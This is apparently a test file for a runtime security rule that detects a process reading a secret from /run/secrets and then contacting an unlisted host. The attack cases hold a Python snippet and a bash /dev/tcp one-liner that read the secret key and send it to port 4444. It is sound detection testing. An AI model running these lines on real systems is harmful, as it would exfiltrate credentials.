# SPDX-License-Identifier: Apache-2.0
"""Who has just read a secret talks to somebody whom the policy does not know."""
from cases import Rule

rule = Rule("identity.token_egress", severity="critical",
            policy={"files": {"secrets": ["/run/secrets/**"]}, "egress": {"warm": [{"cidr": "10.66.0.9/32", "ports": [443]}]}})

FILES = {"run/secrets/key": b"key"}
STEAL = ("import socket\nopen('/run/secrets/key').read()\ns = socket.socket()\ns.settimeout(1)\ns.connect_ex(('10.66.0.9', {}))\ns.close()")


@rule.attack("the serving process")
def _(case):
    function = case.container(files=FILES)
    case.act()
    function.python(STEAL.format(4444))


@rule.attack("a child reads, and its sibling sends")
def _(case):
    function = case.container(files=FILES)
    case.act()
    function.run("/usr/bin/bash", "-c", "cat /run/secrets/key > /tmp/k; cat /tmp/k > /dev/tcp/10.66.0.9/4444")


@rule.quiet("it calls the listed API with its key")
def _(case):
    case.container(files=FILES).python(STEAL.format(443))


@rule.quiet("it reads its key when it starts")
def _(case):
    case.container(files=FILES, init="open('/run/secrets/key').read()").ask()
